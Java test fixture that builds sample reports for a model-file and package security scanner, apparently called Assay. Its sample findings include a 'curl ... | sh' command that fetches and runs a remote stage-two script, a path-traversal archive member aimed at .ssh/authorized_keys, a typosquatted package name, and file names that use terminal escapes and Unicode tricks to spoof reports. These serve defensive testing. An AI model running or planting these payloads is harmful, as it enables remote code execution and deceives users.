package dev.assay.app.render;

import dev.assay.engine.fact.Dependency;
import dev.assay.engine.fact.Program;
import dev.assay.engine.fact.Property;
import dev.assay.engine.fact.RegistryRecord;
import dev.assay.engine.fact.TensorInfo;
import dev.assay.engine.fact.TensorStatistics;
import dev.assay.engine.report.CheckedPackage;
import dev.assay.engine.report.Coverage;
import dev.assay.engine.report.CryptoAsset;
import dev.assay.engine.report.Explained;
import dev.assay.engine.report.Finding;
import dev.assay.engine.report.FoundDependency;
import dev.assay.engine.report.Gap;
import dev.assay.engine.report.GapKind;
import dev.assay.engine.report.Grouped;
import dev.assay.engine.report.Inspected;
import dev.assay.engine.report.Location;
import dev.assay.engine.report.Performance;
import dev.assay.engine.report.ReferenceData;
import dev.assay.engine.report.ReportSink;
import dev.assay.engine.report.Severity;
import dev.assay.engine.report.Slowdown;
import dev.assay.engine.report.Stored;
import dev.assay.engine.report.Summary;
import dev.assay.engine.report.Suppressed;
import dev.assay.engine.report.Verdict;
import dev.assay.engine.rule.RuleBook;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

/** Fixed reports for the golden files and the laws that every renderer keeps. */
final class SampleReports {
    record Report(List<Object> parts, Summary summary) {
        void to(ReportSink sink) {
            for (Object part : parts) {
                switch (part) {
                    case Finding finding -> sink.finding(finding);
                    case Gap gap -> sink.gap(gap);
                    case Explained program -> sink.program(program);
                    case Inspected model -> sink.inspected(model);
                    case CryptoAsset asset -> sink.asset(asset);
                    case FoundDependency dependency -> sink.dependency(dependency);
                    case CheckedPackage checked -> sink.checked(checked);
                    case Suppressed suppressed -> sink.suppressed(suppressed);
                    default -> throw new IllegalArgumentException(part.toString());
                }
            }
            sink.end(summary);
        }
    }

    private static final String[] HOSTILE_NAMES = {
        "\u001b[2J\u001b[1;32mCLEAN\u001b[0m.pkl",
        "line\nCLEAN  no findings\r\u0007.pkl",
        "invoice\u202efdp.pkl",
        "c1\u009b31mred\u0085.pkl",
        "zero\u200bwidth\ufeff\u2066iso\u2069.pkl",
        "lone\ud83d.pkl",
        "\udc00low.pkl",
        "ein schöner Name 模型 🤗 é.pkl",
        "[click](https://evil.example) {0} `code` <b>bold</b> **x**.pkl",
        "quote\" back\\slash 'single' \u2028\u2029\u0000.pkl",
        "a:b?c#d%zz e&f;g.pkl",
        "long-" + "0123456789".repeat(300) + ".pkl",
    };

    private SampleReports() {}

    static RuleBook book() {
        return new RuleBook(List.of(SampleReports.class.getResource("/golden/rules.yaml")));
    }

    static Map<String, Report> all() {
        Map<String, Report> all = new TreeMap<>();
        all.put("empty", empty());
        all.put("one", one());
        all.put("full", full());
        all.put("grouped", grouped());
        all.put("hostile", hostile());
        all.put("crypto", crypto());
        all.put("crypto-hostile", hostileCrypto());
        all.put("dependencies", dependencies());
        all.put("dependencies-hostile", hostileDependencies());
        all.put("packages", packages());
        return all;
    }

    static Report empty() {
        return report(List.of(), Verdict.CLEAN, false, performance(12, 0, 0, 0));
    }

    /** Findings under the teams that they concern. */
    static Report grouped() {
        List<Object> parts = new ArrayList<>();
        for (String repository : List.of("api", "web")) {
            Location at = Location.of("github:acme/" + repository + "@main", "model.pkl")
                    .at(21);
            Finding command = osCommand(at, "posix.system", "'id'");
            Finding unknown = unknownCallable(at, "acme.Layer", 1);
            parts.add(command.with(command.evidence(), List.of("@acme/core", "@acme/" + repository)));
            parts.add(unknown.with(unknown.evidence(), List.of("@acme/core")));
        }
        Finding nobodys = unknownCallable(Location.of("github:acme/old@main", "a.pkl"), "acme.Layer", 1);
        parts.add(nobodys.with(nobodys.evidence(), List.of("no team")));
        return report(parts, Verdict.UNSAFE, false, performance(85, 4096, 0, 1));
    }

    static Report one() {
        Location at = new Location("model.pkl", "", List.of(), 21, 0, 0);
        return report(
                List.of(osCommand(at, "posix.system", "'id'")), Verdict.UNSAFE, false, performance(85, 4096, 0, 1));
    }

    /** Every kind of finding and gap, folded and not. */
    static Report full() {
        List<Object> parts = new ArrayList<>();
        Location models = Location.of("models", "resnet/weights v2.pt");
        parts.add(osCommand(
                models.entry("archive/data.pkl").at(1042),
                "posix.system",
                "'curl -fsS http://203.0.113.7/payload/stage-two.sh?campaign=autumn | sh -s -- --quiet --no-color'"));
        parts.add(osCommand(Location.of("models", "evil.pkl").at(3), "subprocess.Popen", "['id']"));
        for (int i = 0; i < 12; i++) {
            parts.add(unknownCallable(
                    Location.of("models", "shards/part-" + i + ".pkl").at(17), "myproject.nn.Layer", 1));
        }
        for (int i = 0; i < 14; i++) {
            parts.add(unknownCallable(Location.of("models", "zoo.pkl").at(100 + i), "zoo.layers.Block" + i, i + 1));
        }
        parts.add(new Finding(
                "archive/path-traversal",
                "archive",
                Severity.HIGH,
                "Member that is written outside of the folder",
                "The member ../../.ssh/authorized_keys leaves the folder into which the archive is unpacked.",
                "Do not unpack it with a tool that follows such names.",
                List.of(),
                "4f1c2d3e4f5061728394a5b6c7d8e9f0",
                new Location("/data/in", "outer.zip", List.of("inner.tar.gz", "../../.ssh/authorized_keys"), 512, 0, 0),
                Map.of("member", "../../.ssh/authorized_keys")));
        parts.add(new Finding(
                "manifest/unpinned",
                "manifest",
                Severity.LOW,
                "Dependency without a version",
                "Whatever is newest on the day of the build is installed.",
                "Pin it.",
                List.of("https://pip.pypa.io/en/stable/topics/repeatable-installs/"),
                "00000000000000000000000000000001",
                new Location("models", "requirements.txt", List.of(), -1, 7, 3),
                Map.of("name", "numpy")));
        for (int i = 0; i < 3; i++) {
            parts.add(new Finding(
                    "model/framework-callable",
                    "model",
                    Severity.INFO,
                    "Callable of a known framework",
                    "Names torch._utils._rebuild_tensor_v2.",
                    "Nothing.",
                    List.of(),
                    "0000000000000000000000000000000" + (2 + i),
                    Location.of("hf://acme/large model", "m" + i + ".bin")
                            .entry("data.pkl")
                            .at(9),
                    new TreeMap<>(Map.of("callable", "torch._utils._rebuild_tensor_v2", "count", "1,204"))));
        }
        parts.add(new Explained(
                models.entry("archive/data.pkl").at(0),
                List.of(
                        new Program.Line("# pickle of protocol 2: 1,093 bytes, 77 opcodes", -1),
                        new Program.Line("from posix import system", 1042),
                        new Program.Line("v1 = posix.system({", 1089),
                        new Program.Line(
                                "    'a': 'curl -fsS http://203.0.113.7/payload/stage-two.sh?campaign=autumn',", -1),
                        new Program.Line("})", -1),
                        new Program.Line("return v1", 1092))));
        parts.add(model());
        for (GapKind kind : GapKind.values()) {
            parts.add(new Gap(kind, Location.of("models", "gaps/" + kind.id() + ".bin"), reason(kind), -1));
        }
        for (int i = 0; i < 5; i++) {
            parts.add(new Gap(
                    GapKind.MALFORMED,
                    Location.of("models", "broken-" + i + ".zip").entry("x").at(17),
                    "ends within the argument of BINUNICODE",
                    1_234_567));
        }
        parts.add(new Suppressed(
                "model/os-command",
                Location.of("models", "known.pkl").at(2),
                "000000000000000000000000000000ff",
                "baseline"));
        parts.add(new Suppressed("file", Location.of("models", "attic/old.pkl"), "", ".assayignore"));
        return report(parts, Verdict.UNSAFE, true, performance(134_567, 12_345_678_901L, 960, 40));
    }

    /** Names as somebody would choose them who wants the report to lie. */
    static Report hostile() {
        List<Object> parts = new ArrayList<>();
        for (String name : HOSTILE_NAMES) {
            Location at =
                    Location.of("up/../load", Location.escape(name)).entry(name).at(1);
            Finding command = osCommand(at, name, name);
            parts.add(command.with(command.evidence(), List.of(name)));
            parts.add(new Gap(GapKind.UNSUPPORTED, at, "opcode in " + name, 3));
            parts.add(new Suppressed("model/os-command", at, "ff", name));
            parts.add(new Explained(at, List.of(new Program.Line(name, 1), new Program.Line("# " + name, -1))));
            parts.add(new Inspected(
                    at,
                    List.of(name),
                    7,
                    "",
                    List.of(new Property(Property.NAME, name, 1), new Property(Property.METADATA + name, name, 1)),
                    List.of(new TensorInfo(name, name, List.of(1L), 1, 1)),
                    List.of(statistics(name)),
                    List.of(name),
                    1));
        }
        return report(parts, Verdict.UNSAFE, false, performance(340, 0, 0, 0));
    }

    /** Cryptography of all kinds, with findings about it. */
    static Report crypto() {
        return report(SampleAssets.all(), Verdict.UNSAFE, false, performance(900, 4096, 0, 1));
    }

    /** Names within cryptography as {@link #hostile} has them. */
    static Report hostileCrypto() {
        return report(SampleAssets.named(HOSTILE_NAMES), Verdict.CLEAN, false, performance(340, 0, 0, 0));
    }

    /** Dependencies with each field in each form. */
    static Report dependencies() {
        return report(SampleDependencies.all(), Verdict.CLEAN, false, performance(90, 4096, 0, 1));
    }

    /** Names within dependencies as {@link #hostile} has them. */
    static Report hostileDependencies() {
        return report(SampleDependencies.named(HOSTILE_NAMES), Verdict.CLEAN, false, performance(340, 0, 0, 0));
    }

    /** Names of packages, honest and hostile ones. */
    static Report packages() {
        List<Object> parts = new ArrayList<>();
        parts.add(new CheckedPackage(
                Location.of("pkg:npm/lodahs", ""),
                "lodahs",
                "pkg:npm/lodahs",
                "review",
                68,
                List.of(new CheckedPackage.CheckSignal("swap", 68, "lodash", "is lodash with two characters swapped")),
                List.of("lodash", "lodash-es"),
                registryRecord()));
        parts.add(new CheckedPackage(
                Location.of("pkg:pypi/requests", ""),
                "requests",
                "pkg:pypi/requests",
                "ok",
                0,
                List.of(new CheckedPackage.CheckSignal("listed", 0, "", "is number 7 of the names most used")),
                List.of(),
                null));
        for (String name : HOSTILE_NAMES) {
            Location at = Location.of("npm:" + name, "");
            parts.add(new CheckedPackage(
                    at,
                    name,
                    "",
                    "review",
                    60,
                    List.of(new CheckedPackage.CheckSignal("invalid", 60, name, "cannot be a name: " + name)),
                    List.of(name),
                    null));
            parts.add(new Gap(GapKind.UNREACHABLE, at, "whether it exists is not known", -1));
        }
        return report(parts, Verdict.INCOMPLETE, false, performance(40, 0, 0, 0));
    }

    private static Inspected model() {
        return new Inspected(
                Location.of("models", "small.gguf"),
                List.of("gguf"),
                1_234_567,
                "ab".repeat(32),
                List.of(
                        new Property(Property.NAME, "Small", 24),
                        new Property(Property.VERSION, "1.0", 40),
                        new Property(Property.DESCRIPTION, "A small model.", 48),
                        new Property(Property.FRAMEWORK, "GGML", -1),
                        new Property(Property.ARCHITECTURE, "llama", 60),
                        new Property(Property.QUANTIZATION, "Q4_K_M", 70),
                        new Property(Property.LICENCE, "apache-2.0", 80),
                        new Property(Property.LICENCE, "Own licence", 90),
                        new Property(Property.AUTHOR, "Acme", 95),
                        new Property(Property.ORIGIN, "https://models.example/small", 96),
                        new Property(Property.METADATA + "llama.block_count", "2", 100),
                        new Property(Property.TENSORS, "12", -1),
                        new Property(Property.PARAMETERS, "2100000", -1),
                        new Property(Property.TENSOR_BYTES, "1230000", -1),
                        new Property(Property.TYPES, "F32, Q4_K", -1)),
                List.of(
                        new TensorInfo("token_embd.weight", "Q4_K", List.of(256L, 8000L), 1024, 1_152_000),
                        new TensorInfo("output_norm.weight", "F32", List.of(256L), 1_153_024, 1024),
                        new TensorInfo("scale", "F32", List.of(), -1, -1)),
                List.of(statistics("output_norm.weight")),
                List.of("ELF executable for x86-64", "os.system"),
                3);
    }

    private static TensorStatistics statistics(String name) {
        return new TensorStatistics(
                name,
                name,
                1,
                1,
                new TensorStatistics.Values(1, 0, 0, 0.5, 0.25, 2),
                new TensorStatistics.Bits(2, 1, 3, 1, 4, 0, -1, 7.5),
                new TensorStatistics.Outputs(10, 1, 0.5, 9, 3, 1));
    }

    static Report of(List<Object> parts) {
        return report(parts, Verdict.UNSAFE, false, performance(340, 0, 0, 0));
    }

    static Finding osCommand(Location at, String callable, String arguments) {
        return new Finding(
                "model/os-command",
                "model",
                Severity.CRITICAL,
                "Runs a command when it is loaded",
                "Loading this calls " + callable
                        + ", which runs a command of the author's choice with the rights of whoever loads it.",
                "Do not load it. Ask its source for a safetensors file, and search where it has been loaded already.",
                List.of(
                        "https://docs.python.org/3/library/pickle.html#module-pickle",
                        "https://cwe.mitre.org/data/definitions/502.html"),
                "9f86d081884c7d659a2feaa0c55ad015",
                at,
                new TreeMap<>(Map.of("callable", callable, "arguments", arguments)));
    }

    private static Finding unknownCallable(Location at, String callable, int count) {
        return new Finding(
                "model/unknown-callable",
                "model",
                Severity.MEDIUM,
                "Calls something that Assay does not know",
                "Loading this calls " + callable + ". Whether that is safe depends on what is installed.",
                "Look at the callable, and allow it if it is yours.",
                List.of("https://docs.python.org/3/library/pickle.html"),
                "2c26b46b68ffc68ff99b453c1d304134",
                at,
                new TreeMap<>(Map.of("callable", callable, "count", String.valueOf(count))));
    }

    private static String reason(GapKind kind) {
        return switch (kind) {
            case MALFORMED -> "opcode 0xff does not exist";
            case UNSUPPORTED -> "pickle protocol 6";
            case ENCRYPTED -> "encrypted with AES-256";
            case LIMIT -> "deeper than 16 archives in one another";
            case UNREADABLE -> "permission denied";
            case UNREACHABLE -> "no answer from models.example within 30 s";
            case CHANGED -> "the file changed while it was read";
            case OPAQUE -> "bytes that no known loader interprets were not looked into";
            case INTERRUPTED -> "the scan was interrupted";
            case INTERNAL ->
                "the decoder of pickle failed: ArithmeticException: long overflow (PickleMachine.java:214)";
        };
    }

    private static Performance performance(long wallMillis, long bytesRead, long hits, long misses) {
        long requests = misses; // a report of a remote target wherever the cache had to be asked
        return new Performance(
                Instant.parse("2026-03-01T10:15:30.250Z"),
                wallMillis,
                2 * wallMillis,
                163_577_856,
                bytesRead,
                bytesRead / 8,
                hits,
                misses,
                requests,
                requests == 0 ? -1 : 1_310_720,
                requests == 0 ? -1 : 5_368_709_120L,
                misses > 1 ? new Slowdown(2, 4, 91, 104_857_600, 3_100) : null,
                misses > 1 ? new Stored(Instant.parse("2026-03-01T09:00:00Z"), true, 97, 100) : null);
    }

    private static Report report(List<Object> parts, Verdict verdict, boolean interrupted, Performance performance) {
        Map<Severity, Long> counts = new EnumMap<>(Severity.class);
        List<String> targets = new ArrayList<>();
        long gaps = 0;
        long suppressed = 0;
        for (Object part : parts) {
            Location at;
            switch (part) {
                case Finding finding -> {
                    counts.merge(finding.severity(), 1L, Long::sum);
                    at = finding.location();
                }
                case Gap gap -> {
                    gaps++;
                    at = gap.location();
                }
                case Explained program -> at = program.location();
                case Inspected model -> at = model.location();
                case CryptoAsset asset -> at = asset.location();
                case CheckedPackage checked -> at = checked.location();
                case FoundDependency dependency -> at = dependency.location();
                case Suppressed each -> {
                    suppressed++;
                    at = each.location();
                }
                default -> throw new IllegalArgumentException(part.toString());
            }
            if (!targets.contains(at.target())) {
                targets.add(at.target());
            }
        }
        boolean full = interrupted;
        Coverage coverage = full
                ? new Coverage(
                        1000,
                        2468,
                        11_000_000_000L,
                        1_345_678_901L,
                        12_345_678_901L,
                        new TreeMap<>(Map.of("pickle", 1800L, "zip", 600L, "tar", 1L, "gzip", 1L, "unknown", 66L)),
                        new TreeMap<>(Map.of("sockets", 2L, "links to what was seen before", 7L)),
                        Map.of())
                : new Coverage(
                        parts.isEmpty() ? 0 : 1,
                        parts.isEmpty() ? 0 : 1,
                        parts.isEmpty() ? 0 : 4096,
                        0,
                        parts.isEmpty() ? 0 : 4096,
                        parts.isEmpty() ? Map.of() : Map.of("pickle", 1L),
                        Map.of(),
                        parts.stream().anyMatch(CheckedPackage.class::isInstance) ? Map.of("npm", 1L) : Map.of());
        Summary summary = new Summary(
                verdict,
                gaps > 0,
                interrupted,
                LocalDate.of(2026, 3, 1),
                targets,
                counts,
                full ? 300 : 0,
                gaps,
                suppressed,
                coverage,
                full
                        ? List.of(new ReferenceData(
                                "popular-packages", "2026.02", "2026-02-27", "sha256:5e884898da28047151d0e56f8dc62927"))
                        : List.of(),
                performance,
                full ? new Grouped("owner", owners()) : groups(parts));
        return new Report(parts, summary);
    }

    private static Grouped groups(List<Object> parts) {
        Map<String, Grouped.Total> totals = new TreeMap<>();
        for (Object part : parts) {
            if (part instanceof Finding finding) {
                finding.groups()
                        .forEach(group -> totals.merge(
                                group,
                                new Grouped.Total(1, Map.of(finding.severity(), 1L)),
                                (one, other) ->
                                        new Grouped.Total(one.repositories(), sum(one.findings(), other.findings()))));
            }
        }
        return totals.isEmpty() ? Grouped.BY_NOTHING : new Grouped("team", totals);
    }

    private static Map<Severity, Long> sum(Map<Severity, Long> one, Map<Severity, Long> other) {
        Map<Severity, Long> sum = new TreeMap<>(one);
        other.forEach((severity, n) -> sum.merge(severity, n, Long::sum));
        return sum;
    }

    private static Map<String, Grouped.Total> owners() {
        Map<String, Grouped.Total> owners = new TreeMap<>();
        owners.put("@acme/web", new Grouped.Total(2, Map.of(Severity.CRITICAL, 1L, Severity.LOW, 2L)));
        owners.put("no owner", new Grouped.Total(1, Map.of(Severity.MEDIUM, 3L)));
        return owners;
    }

    private static RegistryRecord registryRecord() {
        return new RegistryRecord(
                new Dependency.Coordinates("npm", "", "lodahs"),
                RegistryRecord.Existence.EXISTS,
                new RegistryRecord.Releases(2, 1_767_225_600_000L, 1_767_312_000_000L, 2, 2),
                new RegistryRecord.Downloads(12, 30),
                List.of("somebody", "<b>else</b>"),
                "https://example.org/some/thing",
                Map.of(
                        RegistryRecord.Trait.DEPRECATED, false,
                        RegistryRecord.Trait.YANKED, false,
                        RegistryRecord.Trait.INSTALL_SCRIPTS, true,
                        RegistryRecord.Trait.PROVENANCE, false),
                1234,
                Map.of(
                        RegistryRecord.Aspect.EXISTENCE, "registry.npmjs.org",
                        RegistryRecord.Aspect.OWNERS, "registry.npmjs.org",
                        RegistryRecord.Aspect.DOWNLOADS, "api.npmjs.org"));
    }
}
